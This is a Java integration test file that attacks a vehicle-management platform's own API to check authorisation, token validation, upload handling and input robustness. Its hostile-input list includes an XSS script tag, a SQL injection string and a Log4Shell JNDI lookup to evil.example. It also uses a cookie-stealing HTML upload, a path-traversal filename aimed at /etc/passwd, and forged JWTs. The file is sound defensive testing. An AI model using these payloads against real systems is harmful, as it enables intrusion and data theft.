package com.luxedrive.systemtests;

import com.luxedrive.local.LocalPlatform;
import com.luxedrive.testsupport.TestSocket;
import com.luxedrive.testsupport.TokenForgery;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.security.KeyFactory;
import java.security.PrivateKey;
import java.security.PublicKey;
import java.security.spec.PKCS8EncodedKeySpec;
import java.security.spec.RSAPublicKeySpec;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The platform as an attacker meets it (OWASP API Security Top 10, 2023), on every route the services' OpenAPI
 * documents list: broken object-level authorization (another client's object is a 404), broken function-level
 * authorization (a client or nobody on a staff route: 403 / 401, through the gateway and straight to the service),
 * property-level authorization (mass assignment), JWT attacks on every service, malformed, oversized, mistyped and
 * unicode-laden bodies on every write route (a 4xx problem, never a 500), upload attacks, socket floods and frames
 * beyond the limit. A route added to a service is attacked the day it appears; one missing from the access table
 * below fails the run until someone says who may call it.
 */
@ExtendWith(ScaledPlatform.class)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputIT {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final Duration ASYNC = Duration.ofMinutes(1);

    private static final Set<String> PUBLIC = Set.of("POST /api/auth/register", "POST /api/auth/login",
            "POST /api/auth/refresh", "GET /api/auth/.well-known/jwks.json");
    private static final Set<String> STAFF = Set.of(
            "GET /api/auth/admin/users", "POST /api/auth/admin/users", "GET /api/auth/admin/users/{id}",
            "POST /api/auth/admin/users/{id}/deactivate", "POST /api/auth/admin/users/{id}/reactivate",
            "POST /api/vehicles", "PATCH /api/vehicles/{id}", "DELETE /api/vehicles/{id}",
            "POST /api/vehicles/{id}/transfer", "POST /api/vehicles/{vehicleId}/updates",
            "PATCH /api/vehicle-updates/{id}", "POST /api/documents/{id}/approve", "POST /api/documents/{id}/reject",
            "GET /api/notifications", "POST /api/notifications", "GET /api/notifications/{id}",
            "PATCH /api/notifications/{id}", "DELETE /api/notifications/{id}", "POST /api/notifications/{id}/send",
            "GET /api/notifications/{id}/recipients", "GET /api/notifications/analytics");
    /** Any signed-in user, each on their own things. */
    private static final Set<String> USER = Set.of(
            "GET /api/auth/me", "PATCH /api/auth/me", "POST /api/auth/me/password", "POST /api/auth/logout",
            "GET /api/vehicles", "GET /api/vehicles/{id}", "GET /api/vehicles/{vehicleId}/updates",
            "GET /api/vehicles/{vehicleId}/documents", "POST /api/vehicles/{vehicleId}/documents",
            "GET /api/vehicle-updates/{id}", "POST /api/vehicle-updates/{id}/response", "GET /api/documents/{id}",
            "GET /api/documents/{id}/content", "GET /api/notifications/my-notifications",
            "GET /api/notifications/my-notifications/counts", "GET /api/notifications/unread-count",
            "GET /api/notifications/undelivered", "GET /api/notifications/preferences",
            "PUT /api/notifications/preferences", "PATCH /api/notifications/{notificationId}/read",
            "PATCH /api/notifications/{notificationId}/unread", "PATCH /api/notifications/{notificationId}/archive",
            "PATCH /api/notifications/{notificationId}/unarchive", "PATCH /api/notifications/read-all",
            "PATCH /api/notifications/archive-read");

    /** Strings that have broken systems: control characters, broken UTF-16, direction overrides, sheer length. */
    private static final List<String> HOSTILE_STRINGS = List.of("nul\u0000inside", "\ud800 lone surrogate",
            "\u202eevil\u202c", "zero\u200bwidth", "👩‍👩‍👧‍👦🚗", "e\u0301".repeat(2_000), "x".repeat(100_000),
            "<script>alert(1)</script>", "' OR 1=1 --", "${jndi:ldap://evil.example/a}", "", " ");
    private static final List<Object> WRONG_TYPES = List.of(12345, true, Map.of("nested", "object"),
            List.of("a", "b"), -1.5e300);
    private static final List<String> MALFORMED_BODIES = List.of("{", "[]", "\"text\"", "null", "{\"a\":1,}",
            "[".repeat(10_000), "{\"a\":\"" + "\\u0000".repeat(10) + "\"", "\u0000\u0001");

    /** A body each route would accept, where we know one, built when used (it names the fixture's users). */
    private static final Map<String, Supplier<String>> BASES = Map.of(
            "POST /api/auth/register", () -> """
                    {"email":"h-%s@example.test","password":"a long enough password","firstName":"H",
                     "lastName":"I"}""".formatted(UUID.randomUUID()),
            "PATCH /api/auth/me", () -> "{\"firstName\":\"Carl\",\"lastName\":\"Sagan\"}",
            "POST /api/notifications", () -> """
                    {"title":"T","message":"M","type":"info","targetType":"user","userIds":["%s"]}"""
                    .formatted(HostileInputIT.ada.id()),
            "PATCH /api/vehicles/{id}", () -> "{\"color\":\"Rosso Corsa\"}",
            "POST /api/vehicles/{vehicleId}/updates", () -> "{\"updateType\":\"repair\",\"title\":\"Brakes\"}",
            "POST /api/vehicle-updates/{id}/response", () -> "{\"approved\":true,\"reason\":\"fine\"}",
            "POST /api/documents/{id}/reject", () -> "{\"reason\":\"blurry\"}",
            "PUT /api/notifications/preferences", () -> "{\"mutedTypes\":[\"promotion\"]}",
            "POST /api/auth/login", () -> "{\"email\":\"nobody@example.test\",\"password\":\"wrong password\"}");

    static LocalPlatform platform;
    static PlatformClient gateway;
    static List<OpenApiRoutes> services;
    static String admin;
    static PlatformClient.Account ada;
    static PlatformClient.Account bob;
    static PlatformClient.Account carl;
    static String vehicleId;
    static String updateId;
    static String documentId;
    static String notificationId;

    @BeforeAll
    static void fixture() {
        platform = ScaledPlatform.platform();
        gateway = new PlatformClient(platform.gatewayUrl());
        services = Stream.of("auth-service", "vehicle-service", "notification-service")
                .map(service -> OpenApiRoutes.read(service, platform.instanceUrls(service).get(0)))
                .toList();
        admin = gateway.adminToken(platform.admin());
        ada = gateway.registerClient("Ada");
        bob = gateway.registerClient("Bob");
        carl = gateway.registerClient("Carl");

        String vin = "WP0" + UUID.randomUUID().toString().replace("-", "").substring(0, 14).toUpperCase()
                .replace('I', '1').replace('O', '0').replace('Q', '9');
        vehicleId = await().atMost(ASYNC).until(() -> created(gateway.post("/api/vehicles", admin, """
                {"userId":"%s","vin":"%s","licensePlate":"%s","make":"Porsche","model":"911","year":2023}"""
                .formatted(ada.id(), vin, "HI-" + vin.substring(12)))), id -> id != null);
        updateId = created(gateway.post("/api/vehicles/" + vehicleId + "/updates", admin, """
                {"updateType":"maintenance","title":"Annual service"}"""));
        PlatformClient.Response uploaded = upload(ada.token(), "registration.pdf", "application/pdf", pdf(),
                "registration");
        assertThat(uploaded.status()).as(uploaded.body()).isEqualTo(201);
        documentId = uploaded.json().path("id").asString();
        notificationId = await().atMost(ASYNC).until(() -> {
            PlatformClient.Response sent = gateway.post("/api/notifications", admin, """
                    {"title":"For Ada","message":"Only for Ada","type":"info","targetType":"user","userIds":["%s"]}"""
                    .formatted(ada.id()));
            return sent.status() == 201 ? sent.json().path("notification").path("id").asString() : null;
        }, id -> id != null);
    }

    @Test
    @Order(1)
    void everyDocumentedRouteIsInTheAccessTable() {
        List<String> unclassified = operations()
                .filter(operation -> Stream.of(PUBLIC, STAFF, USER).noneMatch(set -> set.contains(operation.key())))
                .map(OpenApiRoutes.Operation::toString)
                .toList();
        assertThat(unclassified).as("routes nobody said who may call: add them to PUBLIC, STAFF or USER").isEmpty();
        assertThat(operations().count()).isGreaterThanOrEqualTo(PUBLIC.size() + STAFF.size() + USER.size());
    }

    @Test
    @Order(2)
    void withoutATokenEveryRouteButThePublicOnesIs401ThroughTheGatewayAndOnTheServicesOwnPort() {
        assertThat(refusedEverywhere(operation -> !PUBLIC.contains(operation.key()), null, 401)).isEmpty();
        assertNothingChanged();
    }

    @Test
    @Order(3)
    void aClientOnAStaffRouteIs403ThroughTheGatewayAndOnTheServicesOwnPortAndChangesNothing() {
        assertThat(refusedEverywhere(operation -> STAFF.contains(operation.key()), ada.token(), 403)).isEmpty();
        assertNothingChanged();
    }

    @Test
    @Order(4)
    void anotherClientsObjectIsA404OnEveryRouteThatNamesOne() {
        List<String> wrong = new ArrayList<>();
        List<OpenApiRoutes.Operation> owned = operations()
                .filter(operation -> USER.contains(operation.key()) && operation.hasPathParameters())
                .toList();
        assertThat(owned).hasSizeGreaterThanOrEqualTo(10);
        for (OpenApiRoutes.Operation operation : owned) {
            // a body the route accepts, so that whose object it is remains the only reason to refuse
            PlatformClient.Response answer = operation.multipart()
                    ? upload(bob.token(), "mine.pdf", "application/pdf", pdf(), "insurance")
                    : call(gateway, operation, bob.token(), objects(),
                    operation.jsonBody() ? JSON.writeValueAsString(base(operation)) : null);
            if (answer.status() != 404 || !answer.isProblem()) {
                wrong.add(operation + " by another client → " + answer.status() + " " + answer.body());
            }
            if (operation.method().equals("GET")) {
                // the owner reaches it: the 404 above is about whose it is, not a wrong address
                PlatformClient.Response own = call(gateway, operation, ada.token(), objects());
                if (own.status() != 200) {
                    wrong.add(operation + " by its owner → " + own.status() + " " + own.body());
                }
            }
        }
        assertThat(wrong).isEmpty();
        assertNothingChanged();
    }

    @Test
    @Order(5)
    void everyServiceAndEveryInstanceRefusesEveryForgedToken() throws Exception {
        Map<String, String> attacks = forgery().attacks(UUID.fromString(ada.id()), "admin");
        Map<String, String> protectedRoutes = new LinkedHashMap<>();
        platform.instanceUrls("auth-service").forEach(url -> protectedRoutes.put(url, "/api/auth/me"));
        platform.instanceUrls("vehicle-service").forEach(url -> protectedRoutes.put(url, "/api/vehicles"));
        platform.instanceUrls("notification-service").forEach(url -> protectedRoutes.put(url,
                "/api/notifications/unread-count"));
        platform.instanceUrls("gateway").forEach(url -> protectedRoutes.put(url, "/api/notifications/unread-count"));
        List<String> wrong = new ArrayList<>();
        attacks.forEach((attack, token) -> protectedRoutes.forEach((base, path) -> {
            PlatformClient.Response answer = new PlatformClient(base).get(path, token);
            if (answer.status() != 401 || !answer.isProblem()) {
                wrong.add(attack + " at " + base + path + " → " + answer.status());
            }
        }));
        assertThat(wrong).isEmpty();

        // and the socket: refused at the handshake, never logged in
        for (Map.Entry<String, String> attack : attacks.entrySet()) {
            try (TestSocket socket = TestSocket.connect(platform.gatewayUrl(), attack.getValue())) {
                await().atMost(ASYNC).until(() -> !socket.connectErrors().isEmpty() || socket.isDisconnected());
                assertThat(socket.events("user:login-success")).as(attack.getKey()).isEmpty();
            }
        }
    }

    @Test
    @Order(6)
    void massAssignmentGivesNobodyARoleOrAnotherOwner() {
        PlatformClient.Response registered = gateway.post("/api/auth/register", null, """
                {"email":"%s","password":"a long enough password","firstName":"Eve","lastName":"Sneaky",
                 "role":"admin","userType":"admin","isActive":true,"id":"%s"}"""
                .formatted("eve-" + UUID.randomUUID() + "@example.test", UUID.randomUUID()));
        assertThat(registered.status()).as(registered.body()).isIn(201, 400);
        if (registered.status() == 201) {
            assertThat(registered.json().path("user").path("role").asString()).isEqualTo("client");
            String eve = registered.json().path("token").asString();
            assertThat(gateway.post("/api/notifications", eve, "{}").status()).isEqualTo(403);
        }

        PlatformClient.Response patched = gateway.send("PATCH", "/api/auth/me", carl.token(), "application/json", """
                {"firstName":"Carl","lastName":"Root","role":"admin","userType":"admin","isActive":false}"""
                .getBytes(StandardCharsets.UTF_8));
        assertThat(patched.status()).as(patched.body()).isIn(200, 400);
        JsonNode me = gateway.get("/api/auth/me", carl.token()).json();
        assertThat(me.path("role").asString()).isEqualTo("client");

        // an owner cannot hand their vehicle to someone else, nor take one, through the body
        PlatformClient.Response answered = gateway.post("/api/vehicle-updates/" + updateId + "/response",
                bob.token(), """
                        {"approved":true,"reason":"not mine","userId":"%s","vehicleId":"%s"}"""
                        .formatted(bob.id(), vehicleId));
        assertThat(answered.status()).isIn(400, 404);
        assertThat(gateway.get("/api/vehicles/" + vehicleId, ada.token()).json().path("userId").asString())
                .isEqualTo(ada.id());

        // every write route, with privileged members added to a body it accepts: refused, or ignored
        String documentStatus = gateway.get("/api/documents/" + documentId, ada.token()).json().path("status")
                .asString();
        List<String> wrong = new ArrayList<>();
        operations().filter(OpenApiRoutes.Operation::jsonBody)
                .filter(operation -> !STAFF.contains(operation.key()) && !PUBLIC.contains(operation.key()))
                .forEach(operation -> {
                    ObjectNode body = base(operation);
                    body.put("role", "admin").put("userType", "admin").put("isActive", false)
                            .put("userId", bob.id()).put("ownerId", bob.id()).put("status", "approved")
                            .put("id", UUID.randomUUID().toString());
                    judge(operation, "privileged members", call(gateway, operation, tokenFor(operation), objects(),
                            JSON.writeValueAsString(body)), wrong);
                });
        assertThat(wrong).isEmpty();
        assertThat(gateway.get("/api/auth/me", carl.token()).json().path("role").asString()).isEqualTo("client");
        assertThat(gateway.get("/api/documents/" + documentId, ada.token()).json().path("status").asString())
                .isEqualTo(documentStatus);
        assertNothingChanged();
    }

    @Test
    @Order(7)
    void uploadsAreJudgedByTheirBytesAndTheirSizeNotByWhatTheClientClaims() {
        byte[] html = "<html><script>alert(document.cookie)</script></html>".getBytes(StandardCharsets.UTF_8);
        PlatformClient.Response disguised = upload(ada.token(), "invoice.pdf", "application/pdf", html, "invoice");
        assertThat(disguised.status()).as(disguised.body()).isEqualTo(415);
        assertThat(disguised.isProblem()).isTrue();

        PlatformClient.Response traversal = upload(ada.token(), "../../../../etc/passwd.pdf", "application/pdf",
                pdf(), "other");
        assertThat(traversal.status()).as(traversal.body()).isIn(201, 400);
        if (traversal.status() == 201) {
            assertThat(traversal.json().path("fileName").asString()).doesNotContain("/", "\\", "..");
        }

        PlatformClient.Response empty = upload(ada.token(), "empty.pdf", "application/pdf", new byte[0], "other");
        assertThat(empty.status()).as(empty.body()).isEqualTo(400);

        byte[] huge = new byte[11 * 1024 * 1024];
        System.arraycopy(pdf(), 0, huge, 0, pdf().length);
        PlatformClient.Response tooBig = upload(ada.token(), "huge.pdf", "application/pdf", huge, "other");
        assertThat(tooBig.status()).as(tooBig.body()).isEqualTo(413);

        PlatformClient.Response badType = upload(ada.token(), "ok.pdf", "application/pdf", pdf(), "<script>");
        assertThat(badType.status()).as(badType.body()).isEqualTo(400);
    }

    @Test
    @Order(8)
    void bodiesBeyondTheLimitAndOfTheWrongKindAreRefusedAtTheDoor() {
        byte[] thirteenMegabytes = new byte[13 * 1024 * 1024];
        java.util.Arrays.fill(thirteenMegabytes, (byte) 'a');
        PlatformClient.Response tooLarge = gateway.send("POST", "/api/notifications", admin, "application/json",
                thirteenMegabytes);
        assertThat(tooLarge.status()).isEqualTo(413);
        assertThat(tooLarge.isProblem()).isTrue();

        byte[] json = "{\"title\":\"x\",\"message\":\"y\",\"targetType\":\"all\"}".getBytes(StandardCharsets.UTF_8);
        for (String contentType : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")) {
            PlatformClient.Response answer = gateway.send("POST", "/api/notifications", admin, contentType, json);
            assertThat(answer.status()).as(contentType).isEqualTo(415);
            assertThat(answer.isProblem()).as(contentType).isTrue();
        }
    }

    @Test
    @Order(9)
    void everyWriteRouteAnswersMalformedMistypedAndHostileBodiesWithAProblemNeverA500() {
        List<String> wrong = new ArrayList<>();
        int[] sent = {0};
        operations().filter(OpenApiRoutes.Operation::jsonBody).forEach(operation -> {
            String token = tokenFor(operation);
            for (String body : MALFORMED_BODIES) {
                judge(operation, body, call(gateway, operation, token, objects(), body), wrong);
                sent[0]++;
            }
            for (Map.Entry<String, String> property : operation.bodyProperties().entrySet()) {
                List<Object> values = new ArrayList<>(WRONG_TYPES);
                values.addAll(HOSTILE_STRINGS);
                for (Object value : values) {
                    ObjectNode body = base(operation);
                    body.set(property.getKey(), JSON.valueToTree(value));
                    String text = JSON.writeValueAsString(body);
                    judge(operation, property.getKey() + "=" + abbreviate(String.valueOf(value)),
                            call(gateway, operation, token, objects(), text), wrong);
                    sent[0]++;
                }
            }
            ObjectNode unknown = base(operation);
            unknown.put("unknownField", "surprise");
            judge(operation, "unknown field", call(gateway, operation, token, objects(),
                    JSON.writeValueAsString(unknown)), wrong);
        });
        assertThat(sent[0]).isGreaterThan(500);
        assertThat(wrong).as("of " + sent[0] + " hostile bodies").isEmpty();
    }

    @Test
    @Order(10)
    void aSocketSendingFramesBeyondTheLimitOrFloodingIsCutOffAndTheOthersCarryOn() {
        // Carl's logouts among the hostile bodies (Order 9) revoked the token he registered with: it opens no socket
        try (TestSocket revoked = TestSocket.connect(platform.gatewayUrl(), carl.token())) {
            await().atMost(ASYNC).until(() -> !revoked.connectErrors().isEmpty());
            assertThat(revoked.connectErrors().get(0).path("code").asString()).isEqualTo("token_revoked");
        }
        try (TestSocket bystander = TestSocket.connect(platform.gatewayUrl(), bob.token());
             TestSocket oversized = TestSocket.connect(platform.gatewayUrl(), ada.token());
             TestSocket flood = TestSocket.connect(platform.gatewayUrl(), gateway.registerClient("Flo").token())) {
            await().atMost(ASYNC).until(() -> !bystander.events("user:login-success").isEmpty()
                    && !oversized.events("user:login-success").isEmpty()
                    && !flood.events("user:login-success").isEmpty());

            oversized.emit("ping", Map.of("padding", "x".repeat(200_000)));
            await().atMost(ASYNC).until(oversized::isDisconnected);

            for (int i = 0; i < 5_000; i++) {
                flood.emit("notification:read", Map.of("notificationId", "not-a-uuid-" + i));
            }
            // the bystander's socket still answers while the flood is processed
            bystander.emit("ping", Map.of());
            await().atMost(Duration.ofSeconds(10)).until(() -> !bystander.events("pong").isEmpty());
            // the flood got an error per malformed event, or was cut off; it took nothing down
            await().atMost(ASYNC).until(() -> flood.isDisconnected() || flood.events("error").size() >= 5_000);
        }
        try (TestSocket after = TestSocket.connect(platform.gatewayUrl(), ada.token())) {
            await().atMost(ASYNC).until(() -> !after.events("user:login-success").isEmpty());
        }
    }

    // --- what the tests share

    private static Stream<OpenApiRoutes.Operation> operations() {
        return services.stream().flatMap(routes -> routes.operations().stream());
    }

    /**
     * Calls each chosen route with the token (none: null), through the gateway and on its service's own port, and
     * lists the answers that are not the expected status as problem+json.
     */
    private static List<String> refusedEverywhere(java.util.function.Predicate<OpenApiRoutes.Operation> chosen,
                                                  String token, int expected) {
        List<String> wrong = new ArrayList<>();
        operations().filter(chosen).forEach(operation -> {
            for (String base : List.of(gateway.baseUrl(), serviceUrl(operation))) {
                PlatformClient.Response answer = call(new PlatformClient(base), operation, token, objects());
                if (answer.status() != expected || !answer.isProblem()) {
                    wrong.add(operation + " at " + base + " → " + answer.status() + " " + answer.contentType());
                }
            }
        });
        return wrong;
    }

    private static String serviceUrl(OpenApiRoutes.Operation operation) {
        return services.stream().filter(routes -> routes.service().equals(operation.service())).findFirst()
                .orElseThrow().baseUrl();
    }

    /** Each path parameter names one of Ada's things, or Bob (a user for the admin routes). */
    private static java.util.function.Function<OpenApiRoutes.Operation, String> objects() {
        return operation -> operation.path(parameter -> {
            String path = operation.path();
            if (path.startsWith("/api/vehicles/")) {
                return vehicleId;
            } else if (path.startsWith("/api/vehicle-updates/")) {
                return updateId;
            } else if (path.startsWith("/api/documents/")) {
                return documentId;
            } else if (path.startsWith("/api/notifications/")) {
                return notificationId;
            } else if (path.startsWith("/api/auth/admin/users/")) {
                return bob.id();
            }
            return UUID.randomUUID().toString();
        });
    }

    private static PlatformClient.Response call(PlatformClient client, OpenApiRoutes.Operation operation,
                                                String token,
                                                java.util.function.Function<OpenApiRoutes.Operation, String> paths) {
        return call(client, operation, token, paths, operation.jsonBody() || operation.multipart() ? "{}" : null);
    }

    private static PlatformClient.Response call(PlatformClient client, OpenApiRoutes.Operation operation,
                                                String token,
                                                java.util.function.Function<OpenApiRoutes.Operation, String> paths,
                                                String body) {
        return client.send(operation.method(), paths.apply(operation), token, body == null ? null : "application/json",
                body == null ? null : body.getBytes(StandardCharsets.UTF_8));
    }

    private static void judge(OpenApiRoutes.Operation operation, String what, PlatformClient.Response answer,
                              List<String> wrong) {
        if (answer.status() >= 500 || (answer.status() >= 400 && !answer.isProblem())) {
            wrong.add(operation + " with " + abbreviate(what) + " → " + answer.status() + " "
                    + abbreviate(answer.body()));
        }
    }

    /** Whose token reaches a route's validation: the admin's on staff routes, a client's on the others. */
    private static String tokenFor(OpenApiRoutes.Operation operation) {
        if (PUBLIC.contains(operation.key())) {
            return null;
        }
        if (STAFF.contains(operation.key())) {
            return admin;
        }
        // Carl's account takes what could end a session (logout, password change); Ada's things the rest
        return operation.path().startsWith("/api/auth/") ? carl.token() : ada.token();
    }

    /** A body the route would accept, where we know one: a hostile value in it gets past the simple checks. */
    private static ObjectNode base(OpenApiRoutes.Operation operation) {
        Supplier<String> base = BASES.get(operation.key());
        return base == null ? JSON.createObjectNode() : (ObjectNode) JSON.readTree(base.get());
    }

    /** Nothing the refused calls aimed at moved: Ada still owns her vehicle, every account still works. */
    private static void assertNothingChanged() {
        PlatformClient.Response vehicle = gateway.get("/api/vehicles/" + vehicleId, ada.token());
        assertThat(vehicle.status()).isEqualTo(200);
        assertThat(vehicle.json().path("userId").asString()).isEqualTo(ada.id());
        for (PlatformClient.Account client : List.of(ada, bob, carl)) {
            assertThat(gateway.get("/api/auth/me", client.token()).status()).isEqualTo(200);
        }
        assertThat(gateway.get("/api/notifications/" + notificationId, admin).status()).isEqualTo(200);
        assertThat(gateway.get("/api/documents/" + documentId, ada.token()).status()).isEqualTo(200);
    }

    private static String created(PlatformClient.Response response) {
        return response.status() == 201 ? response.json().path("id").asString() : null;
    }

    private static PlatformClient.Response upload(String token, String fileName, String contentType, byte[] content,
                                                  String documentType) {
        String boundary = "luxe-" + UUID.randomUUID();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"documentType\"\r\n\r\n"
                + documentType + "\r\n--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
                + fileName + "\"\r\nContent-Type: " + contentType + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        body.writeBytes(content);
        body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return gateway.send("POST", "/api/vehicles/" + vehicleId + "/documents", token,
                "multipart/form-data; boundary=" + boundary, body.toByteArray());
    }

    private static byte[] pdf() {
        return "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
    }

    /** Forged tokens for the platform's own key: what an attacker with a stolen token or key material tries. */
    private static TokenForgery forgery() throws Exception {
        JsonNode key = gateway.get("/api/auth/.well-known/jwks.json", null).json().path("keys").get(0);
        Base64.Decoder url = Base64.getUrlDecoder();
        PublicKey publicKey = KeyFactory.getInstance("RSA").generatePublic(new RSAPublicKeySpec(
                new BigInteger(1, url.decode(key.path("n").asString())),
                new BigInteger(1, url.decode(key.path("e").asString()))));
        String pem = Files.readString(platform.dataDirectory().resolve("keys").resolve("jwt-signing-key.pem"));
        PrivateKey privateKey = KeyFactory.getInstance("RSA").generatePrivate(new PKCS8EncodedKeySpec(
                Base64.getMimeDecoder().decode(pem.replaceAll("-----[A-Z ]+-----", ""))));
        return new TokenForgery(privateKey, publicKey, key.path("kid").asString(), "luxe-auth", "luxe-drive-hub");
    }

    private static String abbreviate(String text) {
        return text.length() <= 120 ? text : text.substring(0, 120) + "…(" + text.length() + " chars)";
    }
}
